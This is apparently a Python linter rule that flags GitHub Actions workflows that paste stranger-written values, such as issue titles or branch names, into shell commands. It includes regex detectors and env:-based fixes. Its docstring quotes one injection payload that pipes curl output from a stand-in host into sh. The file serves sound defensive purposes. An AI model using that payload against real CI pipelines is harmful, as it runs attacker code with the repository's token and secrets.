"""audits.workflows: text of strangers in CI's commands."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from tenfold.place import Place
from tenfold.program.program import Program
from tenfold.project.workflows import WorkflowFacts
from tenfold.rules.audits._workflows import all_files
from tenfold.rules.base import Observation, Rule, violated

_EXPRESSION = re.compile(r"\$\{\{([^{}]{1,300})\}\}")
_FOREIGN = re.compile(
    r"github\.head_ref"
    r"|github\.event\.(?:issue|discussion)\.(?:title|body)"
    r"|github\.event\.pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|github\.event\.(?:comment|review|review_comment)\.body"
    r"|github\.event\.(?:head_commit\.(?:message|author\.(?:email|name))|commits[\w.*\[\]]{0,20}\.(?:message|author\.\w+))"
    r"|github\.event\.pages[\w.*\[\]]{0,20}\.page_name"
    r"|github\.event\.workflow_run\.(?:head_branch|head_commit\.message|display_title|head_repository\.description)"
)
_SAFE = re.compile(r"\b(?:contains|startsWith|endsWith|hashFiles|toJSON)\s*\(|==|!=|&&")
_WITH_SECRETS = frozenset(
    {
        "issues",
        "issue_comment",
        "pull_request_target",
        "discussion",
        "discussion_comment",
        "workflow_run",
        "gollum",
        "fork",
    }
)
"""Events that a stranger can cause and that run with the repository's secrets."""
_STRANGERS = _WITH_SECRETS | {"pull_request", "pull_request_review", "pull_request_review_comment"}


class WorkflowsInjection(Rule):
    """A stranger's text is pasted into a command of CI.

    ## What it finds
    `${{ github.event.issue.title }}`, `${{ github.head_ref }}` and other values that a stranger writes, inside a `run:`
    or the script of actions/github-script, in a workflow that strangers can start. What goes through `env:` is silent.

    ## Why it matters
    The expression is replaced before the shell reads the line: a pull request titled `"; curl evil.example | sh; "` is
    a command, and it runs with the job's token and secrets.

    ## Example
    ```yaml .github/workflows/greet.yml
    on: issues
    permissions: {}
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "${{ github.event.issue.title }}"
    ```

    ## Use instead
    ```yaml .github/workflows/greet.yml
    on: issues
    permissions: {}
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "$TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## References
    - https://docs.github.com/en/actions/concepts/security/script-injections
    - https://docs.zizmor.sh/audits/#template-injection
    """

    requirement = "audits.workflows"
    severity = "high"
    cwe = (94, 78)
    whole = True

    def judge_project(self, program: Program) -> Iterable[Observation]:
        """Look at the texts of all scripts."""
        for path, facts in all_files(program):
            events = {trigger.event for trigger in facts.triggers}
            if facts.triggers and events.isdisjoint(_STRANGERS) and "workflow_call" not in events:
                continue
            with_secrets = not events.isdisjoint(_WITH_SECRETS)
            for line, text in _scripts(facts):
                for at, value in _foreign(text):
                    yield violated(
                        Place(path, line + at),
                        f"{value}, which a stranger writes, is pasted into a script before the shell reads it",
                        f'pass it through the environment: `env: {{ VALUE: "${{{{ {value} }}}}" }}` and use "$VALUE"',
                        severity="high" if with_secrets else "medium",
                    )


def _scripts(facts: WorkflowFacts) -> Iterator[tuple[int, str]]:
    for run in facts.runs:
        yield run.line + (1 if "\n" in run.text else 0), run.text
    for use in facts.uses:
        if use.name.lower() == "actions/github-script":
            for value in use.inputs:
                if value.key == "script":
                    yield value.line + (1 if "\n" in value.value else 0), value.value


def _foreign(text: str) -> Iterator[tuple[int, str]]:
    """Line offset and name of each foreign value that reaches the text itself."""
    for match in _EXPRESSION.finditer(text):
        found = _FOREIGN.search(match[1])
        if found is not None and not _SAFE.search(match[1]):
            yield text.count("\n", 0, match.start()), found[0]
